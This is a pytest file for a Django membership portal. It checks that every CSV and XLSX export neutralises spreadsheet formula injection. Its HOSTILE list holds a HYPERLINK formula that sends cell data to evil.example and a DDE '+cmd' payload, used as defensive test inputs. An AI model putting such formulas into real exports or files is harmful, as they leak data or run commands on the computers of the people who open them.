"""No spreadsheet the portal hands out runs a formula typed into its records.

Every text field of the records is set to text a spreadsheet would run (=HYPERLINK(…), +cmd, -2+3, @SUM(A1),
"\\t=1", "\\r=1"). Then every URL of the permission matrix is opened by a role allowed to open it, every
admin Export is downloaded in every format it offers, and the commands that write a sheet are run. Whatever
comes back as a spreadsheet must be CSV or XLSX, with no formula cell and no field that starts like one.
The exports are found by what they answer, not by a list, so a new one that bypasses members.exporting
fails here.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.contrib import admin
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from tests.test_admin_export import activity, downloads, initiative  # noqa: F401
from tests.test_permissions import MATRIX, ROLES, _args, _resolve, users  # noqa: F401

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&G2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A CSV field that is a number, which a spreadsheet reads as the number it is.
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What a browser or Excel would open as a spreadsheet.
SHEET_TYPES = (CSV, XLSX, "text/tab-separated-values", "application/vnd.ms-excel", "application/vnd.oasis")
# Keys and digests the portal itself makes, and values derived on save; nobody types them.
NOT_TYPED = {"password", "token", "sha256", "pdf_sha256", "scope", "sort_key", "search_name"}


def make_records_hostile():
    """Every typed text field of every record of the portal's apps set to a hostile value; the models changed."""
    changed = set()
    for label in ("members", "reports", "congress"):
        for model in apps.get_app_config(label).get_models():
            if model.__name__.startswith("Historical"):
                continue
            fields = [
                field
                for field in model._meta.concrete_fields
                if isinstance(field, models.CharField | models.TextField)
                and not field.choices
                and field.name not in NOT_TYPED
            ]
            for number, pk in enumerate(model.objects.values_list("pk", flat=True)):
                values = {}
                for offset, field in enumerate(fields):
                    value = HOSTILE[(number + offset) % len(HOSTILE)]
                    if field.unique:
                        value = f"{value} {pk}"
                    if field.max_length:
                        value = value[: field.max_length]
                    values[field.name] = value
                if values:
                    model.objects.filter(pk=pk).update(**values)
                    changed.add(model.__name__)
    return changed


def is_sheet(response):
    return response.get("Content-Type", "").startswith(SHEET_TYPES)


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_inert(content_type, content, where):
    assert content_type.startswith((CSV, XLSX)), (
        f"{where}: a spreadsheet the portal does not write ({content_type})"
    )
    if content_type.startswith(CSV):
        text = content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for value in row:
                assert NUMBER.fullmatch(value) or not value.startswith(FORMULA_STARTS), (
                    f"{where}: CSV field {value!r}"
                )
        return
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (
                    f"{where}: formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                )
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (
                        f"{where}: {sheet.title}!{cell.coordinate} reads {cell.value!r}"
                    )


def matrix_urls(request):
    """Each GET row of the matrix as {url: role}: the first role (secretariat first) that gets a 200."""
    urls = {}
    for row in MATRIX:
        if len(row) > 3 or "missing" in _args(row):
            continue
        role = next(
            (r for r, status in zip(ROLES, row[2], strict=True) if r != "anonymous" and status == 200), None
        )
        if role:
            url = reverse(row[0], args=[_resolve(request, arg) for arg in _args(row)])
            urls.setdefault(url, role)
    return urls


def admin_export_urls():
    return [
        reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "export_action")
    ]


def admin_downloads(client, url):
    """Every file the admin's Export at `url` gives: at once (the roster's), or one per format its form offers."""
    response = client.get(url)
    if is_sheet(response):
        return [response, client.get(url, {"format": "csv"})]
    return list(downloads(client, url).values())


# The admin exports these two; the other records come from the fixtures the matrix names.
@pytest.mark.usefixtures("activity", "initiative")
def test_no_export_runs_a_formula_typed_into_the_records(request, client, tmp_path):
    accounts = request.getfixturevalue("users")
    # The fixtures every row names exist before their records are made hostile.
    urls = matrix_urls(request)
    changed = make_records_hostile()
    assert {"Association", "Person", "Membership", "Comment", "Delegate", "Activity", "Initiative"} <= changed

    sheets = []
    for url, role in urls.items():
        client.force_login(accounts[role])
        response = client.get(url)
        if is_sheet(response):
            sheets.append(url)
            assert_inert(response["Content-Type"], body_of(response), url)
    client.force_login(accounts["secretariat"])
    for url in admin_export_urls():
        for response in admin_downloads(client, url):
            assert is_sheet(response), (
                f"{url} answers {response.status_code} {response['Content-Type']}: the admin's Export offers "
                "the portal's XLSX and CSV only"
            )
            sheets.append(url)
            assert_inert(response["Content-Type"], body_of(response), url)
    son_hong = request.getfixturevalue("son_hong")
    son_hong.refresh_from_db()
    for name in (son_hong.code, "all"):
        for extension, content_type in (("xlsx", XLSX), ("csv", CSV)):
            target = tmp_path / f"roster-{len(sheets)}.{extension}"
            call_command("export_roster", name, "-o", str(target), stdout=io.StringIO())
            sheets.append(str(target))
            assert_inert(content_type, target.read_bytes(), f"export_roster {name} -o {target.name}")

    # The walk found the exports the portal is known to offer, so it cannot pass by finding none.
    found = " ".join(sheets)
    known = [
        "/danh-sach.xlsx", "/danh-sach.csv", "/mau-danh-sach.xlsx", "/dai-bieu.xlsx", "/dai-bieu.csv",
        "/tong-hop-gop-y.xlsx", "/tong-hop-gop-y.csv", "/membership/export/", "/activity/export/",
        "/initiative/export/",
    ]  # fmt: skip
    assert [url for url in known if url not in found] == []


# Writing a sheet by hand: a CSV writer, an openpyxl workbook, another library's writer.
SHEET_WRITERS = re.compile(
    r"\bcsv\.(writer|DictWriter)\b|from openpyxl import [^\n]*\bWorkbook\b|\bopenpyxl\.Workbook\b|xlsxwriter"
)


def test_only_the_exporter_writes_sheets():
    """A command or a service that writes a sheet itself would not be found by walking the URLs."""
    root = Path(__file__).resolve().parent.parent
    writers = [
        str(path.relative_to(root))
        for app in ("members", "reports", "congress", "lienhiephoi")
        for path in (root / app).rglob("*.py")
        if SHEET_WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert writers == ["members/exporting.py"]
